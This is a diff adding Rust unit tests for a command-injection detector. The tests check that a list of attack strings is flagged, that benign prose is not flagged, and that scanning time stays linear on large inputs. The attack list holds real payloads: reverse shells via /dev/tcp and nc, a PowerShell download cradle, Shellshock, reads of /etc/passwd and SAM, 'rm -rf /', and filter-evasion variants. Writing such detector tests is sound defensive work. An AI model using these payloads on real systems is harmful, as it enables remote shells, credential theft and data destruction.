@@ -1,0 +1,94 @@
+use super::*;
+use crate::other_util::take_steps;
+use crate::FieldKind;
+
+fn q(v: &str) -> u8 {
+    detector().check(&Input { raw: v, decoded: v, field: FieldKind::QueryValue }, Level::Strict).map_or(0, |h| h.confidence)
+}
+
+#[test]
+fn attacks() {
+    let mut bad: Vec<String> = Vec::new();
+    for v in [
+        ";id",
+        "; id",
+        "a;id|",
+        "| whoami",
+        "' || whoami",
+        "\"; cat /etc/passwd",
+        "127.0.0.1 && ping -c 3 evil.com",
+        "`ping 127.0.0.1`",
+        "$(sleep 5)",
+        "x$(id)",
+        "a);/usr/bin/id",
+        "; c''at /etc/passwd",
+        "; c\\at /etc/passwd",
+        ";w^h^o^a^m^i",
+        "cat${IFS}/etc/passwd",
+        ";cat$IFS$9/etc/passwd",
+        "{cat,/etc/passwd}",
+        "& dir C:\\Users",
+        "| type %SYSTEMROOT%\\repair\\SAM",
+        "& ipconfig /all",
+        "\nid\n",
+        "() { :;}; /bin/bash -c \"id\"",
+        "powershell -enc SQBFAFgA",
+        "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "; nc -lvvp 4444 -e /bin/sh",
+        "<!--#exec cmd=\"/bin/ls\" -->",
+        "ls -la /var/www",
+        "x; rm -rf /",
+        "%0aid",
+    ] {
+        if q(v) < 60 {
+            bad.push(format!("{v:?}: {}", q(v)));
+        }
+    }
+    assert!(bad.is_empty(), "{bad:#?}");
+}
+
+#[test]
+fn prose_and_benign() {
+    let mut bad: Vec<String> = Vec::new();
+    for v in [
+        "I like my cat; she likes me",
+        "cats and dogs; ls is not a word here",
+        "Tom & Jerry",
+        "salt & pepper; more please",
+        "type here",
+        "more info",
+        "find a store near you",
+        "Use `ls` to list files in the directory, then `cd` into it",
+        "1;1;1;CONTROL;0;0;1;",
+        "id",
+        "ls",
+        "time & date",
+        "R&D; head of sales",
+        "rock & roll; sleep well",
+        "He said: 'echo' and left",
+        "see the docs (id, name)",
+        "I can't find it; which one?",
+        "https://example.com/a?b=1&c=2",
+        "{\"a\": [1, 2, {\"b\": \"c\"}]}",
+        "Hello, world! How are you?",
+        "price: 10 | 20 | 30",
+        "(cat) is an animal",
+    ] {
+        if q(v) >= 60 {
+            bad.push(format!("{v:?}: {}", q(v)));
+        }
+    }
+    assert!(bad.is_empty(), "{bad:#?}");
+}
+
+#[test]
+fn linear_on_large_inputs() {
+    for unit in [";id", "`", "$(", "a ", "c''", "{,", "$IFS", "() {;}", "iex", " -e", "\\n"] {
+        let v = unit.repeat(1_000_000 / unit.len());
+        take_steps();
+        let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::QueryValue }, Level::Strict);
+        let steps = take_steps();
+        assert!(steps < 80 * v.len() as u64, "{unit}: {steps}");
+    }
+}
